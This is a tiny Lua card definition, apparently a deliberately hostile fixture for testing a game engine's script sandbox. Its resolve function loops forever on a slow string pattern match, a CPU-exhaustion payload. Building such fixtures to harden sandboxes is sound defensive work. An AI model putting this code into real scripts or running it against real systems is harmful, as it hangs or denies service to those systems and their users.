-- 毒: hostile on purpose.
card:on_play { line = 1,
  target = target.unit(),
  resolve = function(g, e)
    while true do pcall(string.gsub, ('a'):rep(100000), '.-b', 'x') end
  end,
}
